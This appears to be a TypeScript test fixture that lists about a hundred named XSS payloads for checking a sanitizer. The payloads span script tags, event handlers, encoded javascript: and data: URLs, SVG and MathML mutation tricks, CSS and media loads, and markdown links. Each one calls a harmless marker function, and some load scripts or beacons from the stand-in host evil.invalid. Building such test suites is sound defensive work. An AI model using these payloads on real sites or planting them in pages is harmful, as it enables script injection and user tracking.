// Inputs that try to run script, load something remote or take over the page, drawn from the
// classic families: raw script, event handlers on many tags, dangerous URL schemes (also encoded),
// SVG and MathML tricks, parser differentials (mutation XSS), CSS loads, frames, forms, meta/base,
// and the same ideas in markdown syntax. Each payload calls top.__pwned(<name>) or alert() if it
// ever runs, and names a remote URL (evil.invalid, or {{ORIGIN}}/evil/ on the test server, which
// the CSP's img-src would let through) if it ever loads something.

const R = 'http://evil.invalid';
const S = '{{ORIGIN}}/evil';
/** Base64 of `<script>top.__pwned('data-html')</script>`. */
const HTML_B64 = Buffer.from("<script>top.__pwned('data-html')</script>").toString('base64');
/** Base64 of an SVG whose onload calls home. */
const SVG_B64 = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned('svg-data')"><image href="${R}/svgdata.png"/></svg>`).toString(
  'base64',
);

const pw = (name: string) => `top.__pwned('${name}')`;

const list: Array<[name: string, payload: string]> = [
  // Plain script, in its many spellings.
  ['script', `<script>${pw('script')}</script>`],
  ['script-src', `<SCRIPT SRC=${R}/x.js></SCRIPT>`],
  ['script-split', `<scr<script>ipt>${pw('script-split')}</scr</script>ipt>`],
  ['script-in-attr', `<a title="<script>${pw('script-in-attr')}</script>">x</a>`],
  // Event handlers on many tags.
  ['img-onerror', `<img src=x onerror=${pw('img-onerror')}>`],
  ['img-onerror-slash', `<img/src=x/onerror=${pw('img-onerror-slash')}>`],
  ['img-onerror-unclosed', `<img src=x onerror="${pw('img-onerror-unclosed')}"`],
  ['img-eval-src', `<img src=x:alert(alt) onerror=eval(src) alt=0>`],
  ['body-onload', `<body onload=${pw('body-onload')}>`],
  ['svg-onload', `<svg onload=${pw('svg-onload')}>`],
  ['input-autofocus', `<input autofocus onfocus=${pw('input-autofocus')}>`],
  ['select-autofocus', `<select autofocus onfocus=${pw('select-autofocus')}></select>`],
  ['textarea-autofocus', `<textarea autofocus onfocus=${pw('textarea-autofocus')}></textarea>`],
  ['details-ontoggle', `<details open ontoggle=${pw('details-ontoggle')}><summary>s</summary>x</details>`],
  ['video-source-onerror', `<video><source onerror=${pw('video-source-onerror')}></video>`],
  ['audio-onerror', `<audio src=x onerror=${pw('audio-onerror')}></audio>`],
  ['marquee-onstart', `<marquee onstart=${pw('marquee-onstart')}>m</marquee>`],
  ['div-onpointerover', `<div onpointerover=${pw('div-onpointerover')}>hover</div>`],
  ['a-onclick', `<a href="https://ok.example/" onclick="${pw('a-onclick')}">ok link</a>`],
  ['fake-copy-button', `<button onclick=${pw('fake-copy-button')}>Copy</button>`],
  ['frameset-onload', `<frameset onload=${pw('frameset-onload')}>`],
  ['isindex', `<isindex type=image src=1 onerror=${pw('isindex')}>`],
  ['null-in-handler', `<img src=x o\u0000nerror=${pw('null-in-handler')}>`],
  // Dangerous URL schemes in HTML, plain and encoded.
  ['a-javascript', `<a href="javascript:${pw('a-javascript')}">click</a>`],
  ['a-javascript-case', `<a href="JaVaScRiPt:${pw('a-javascript-case')}">click</a>`],
  ['a-javascript-entity', `<a href="&#106;avascript:${pw('a-javascript-entity')}">click</a>`],
  ['a-javascript-hex-entity', `<a href="&#x6A;&#x61;vascript:${pw('a-javascript-hex-entity')}">click</a>`],
  ['a-javascript-tab', `<a href="jav&#x09;ascript:${pw('a-javascript-tab')}">click</a>`],
  ['a-javascript-leading-space', `<a href="  javascript:${pw('a-javascript-leading-space')}">click</a>`],
  ['a-vbscript', `<a href="vbscript:msgbox(1)">click</a>`],
  ['a-data-html', `<a href="data:text/html;base64,${HTML_B64}">click</a>`],
  ['a-ping', `<a ping="${R}/ping" href="https://ok.example/">ping</a>`],
  ['img-javascript', `<img src="javascript:${pw('img-javascript')}">`],
  ['video-poster', `<video poster=javascript:${pw('video-poster')}></video>`],
  // Frames, objects, forms, meta, base.
  ['iframe-srcdoc', `<iframe srcdoc="<script>${pw('iframe-srcdoc')}</script>"></iframe>`],
  ['iframe-javascript', `<iframe src="javascript:${pw('iframe-javascript')}"></iframe>`],
  ['iframe-data', `<iframe src="data:text/html,<script>${pw('iframe-data')}</script>"></iframe>`],
  ['object-javascript', `<object data="javascript:${pw('object-javascript')}"></object>`],
  ['object-data-html', `<object data="data:text/html;base64,${HTML_B64}"></object>`],
  ['embed-javascript', `<embed src="javascript:${pw('embed-javascript')}">`],
  ['embed-svg', `<embed src="data:image/svg+xml;base64,${SVG_B64}">`],
  ['portal', `<portal src="${R}/portal"></portal>`],
  ['meta-refresh-js', `<meta http-equiv="refresh" content="0;url=javascript:${pw('meta-refresh-js')}">`],
  ['meta-refresh-remote', `<meta http-equiv="refresh" content="0;url=${R}/refresh">`],
  ['base-href', `<base href="${R}/">`],
  ['form-action', `<form action="javascript:${pw('form-action')}"><button>go</button></form>`],
  ['formaction', `<form><button formaction="javascript:${pw('formaction')}">x</button></form>`],
  ['input-image', `<input type=image src=${R}/input.png>`],
  // SVG.
  ['svg-script', `<svg><script>${pw('svg-script')}</script></svg>`],
  ['svg-animate-onbegin', `<svg><animate onbegin=${pw('svg-animate-onbegin')} attributeName=x dur=1s>`],
  ['svg-animate-href', `<svg><a><animate attributeName=href values=javascript:${pw('svg-animate-href')} /><text x=20 y=20>click</text></a></svg>`],
  ['svg-set-handler', `<svg><set attributeName=onmouseover to=${pw('svg-set-handler')}>`],
  ['svg-foreignobject', `<svg><foreignObject><iframe srcdoc="<script>${pw('svg-foreignobject')}</script>"></iframe></foreignObject></svg>`],
  ['svg-use-data', `<svg><use href="data:image/svg+xml;base64,${SVG_B64}#x"/></svg>`],
  ['svg-image-remote', `<svg><image href="${S}/svgimage.png"/></svg>`],
  ['svg-style-import', `<svg><style>@import url(${R}/svg.css)</style></svg>`],
  // MathML and mutation XSS: markup that parses differently the second time round.
  ['math-href', `<math href="javascript:${pw('math-href')}">CLICKME</math>`],
  ['math-maction', `<math><maction actiontype="statusline" xlink:href="javascript:${pw('math-maction')}">CLICKME</maction></math>`],
  ['mglyph-style', `<math><mtext><table><mglyph><style><img src=x onerror=${pw('mglyph-style')}>`],
  ['mglyph-svg-style', `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${pw('mglyph-svg-style')} src>">`],
  ['form-math-mglyph', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${pw('form-math-mglyph')}>`],
  ['noscript-title', `<noscript><p title="</noscript><img src=x onerror=${pw('noscript-title')}>">`],
  ['svg-p-style', `<svg></p><style><a id="</style><img src=1 onerror=${pw('svg-p-style')}>">`],
  ['xmp-title', `<xmp><p title="</xmp><img src=x onerror=${pw('xmp-title')}>">`],
  ['noembed-title', `<noembed><img title="</noembed><img src onerror=${pw('noembed-title')}>"></noembed>`],
  ['listing-entities', `<listing>&lt;img src=x onerror=${pw('listing-entities')}&gt;</listing>`],
  ['template', `<template><img src=x onerror=${pw('template')}></template>`],
  ['comment-breakout', `<!--><img src=x onerror=${pw('comment-breakout')}>-->`],
  ['cdata-breakout', `<![CDATA[><img src=x onerror=${pw('cdata-breakout')}>]]>`],
  ['double-open', `<<img src=x onerror=${pw('double-open')}//<`],
  ['nested-unclosed', `<div><p><b><i><table><td><img src=x onerror=${pw('nested-unclosed')}>`],
  ['backtick-attr', `<img src="x\`<script>${pw('backtick-attr')}</script>\`">`],
  // CSS: remote loads and old script hooks.
  ['style-attr-url', `<div style="background:url(${R}/bg.png)">styled</div>`],
  ['style-import', `<style>@import '${R}/x.css';</style>`],
  ['style-url', `<style>html{background:url("${S}/style.png")}</style>`],
  ['style-expression', `<style>*{color:expression(${pw('style-expression')})}</style>`],
  ['link-stylesheet', `<link rel=stylesheet href=${R}/l.css>`],
  ['link-prefetch', `<link rel=prefetch href=${S}/prefetch>`],
  // Remote media.
  ['img-remote', `<img src="${S}/pixel.png">`],
  ['img-srcset', `<img srcset="${R}/1.png 1x">`],
  ['picture-source', `<picture><source srcset="${R}/p.png"><img></picture>`],
  ['td-background', `<table><tr><td background="${S}/td.png">x</td></tr></table>`],
  ['body-background', `<body background="${S}/body.png">`],
  // Markdown syntax.
  ['md-link-javascript', `[click](javascript:${pw('md-link-javascript')})`],
  ['md-link-javascript-case', `[click](JAVASCRIPT:${pw('md-link-javascript-case')})`],
  ['md-link-entity', `[click](&#106;avascript:${pw('md-link-entity')})`],
  ['md-link-colon-entity', `[click](javascript&colon;${pw('md-link-colon-entity')})`],
  ['md-link-angle', `[click](<javascript:${pw('md-link-angle')}>)`],
  ['md-link-data-html', `[click](data:text/html;base64,${HTML_B64})`],
  ['md-link-vbscript', `[click](vbscript:msgbox(1))`],
  ['md-link-reference', `[ref click][ref]\n\n[ref]: javascript:${pw('md-link-reference')}`],
  ['md-link-attr-breakout', `[x](https://a.example/" onmouseover="${pw('md-link-attr-breakout')})`],
  ['md-title-breakout', `[x](https://a.example/ "t\\" onmouseover=${pw('md-title-breakout')} x=\\"")`],
  ['md-autolink-quote', `<https://evil.invalid/"onmouseover="${pw('md-autolink-quote')}>`],
  ['md-image-javascript', `![x](javascript:${pw('md-image-javascript')})`],
  ['md-image-remote', `![beacon](${S}/md.png)`],
  ['md-image-remote-title', `![beacon](https://evil.invalid/beacon.gif "title")`],
  ['md-image-svg-data', `![svg](data:image/svg+xml;base64,${SVG_B64})`],
  ['md-image-onerror-alt', `![x" onerror="${pw('md-image-onerror-alt')}](x)`],
  ['md-html-in-link-text', `[<img src=x onerror=${pw('md-html-in-link-text')}>](https://ok.example/)`],
  ['md-code-fence-script', '```html\n<script>' + pw('md-code-fence-script') + '</script>\n```'],
  ['md-inline-code-script', '`<script>' + pw('md-inline-code-script') + '</script>`'],
  ['md-table-handler', `| a |\n| - |\n| <img src=x onerror=${pw('md-table-handler')}> |`],
  ['md-nested-link', `[a [b](javascript:${pw('md-nested-link')})](https://ok.example/)`],
  ['md-html-block-blank', `<div>\n\n<img src=x onerror=${pw('md-html-block-blank')}>\n\n</div>`],
];

export const ATTACKS: ReadonlyArray<{ name: string; payload: string }> = list.map(([name, payload]) => ({ name, payload }));

/** Puts the test server's origin into payloads that target it. */
export function withOrigin(payload: string, origin: string): string {
  return payload.replaceAll('{{ORIGIN}}', origin);
}
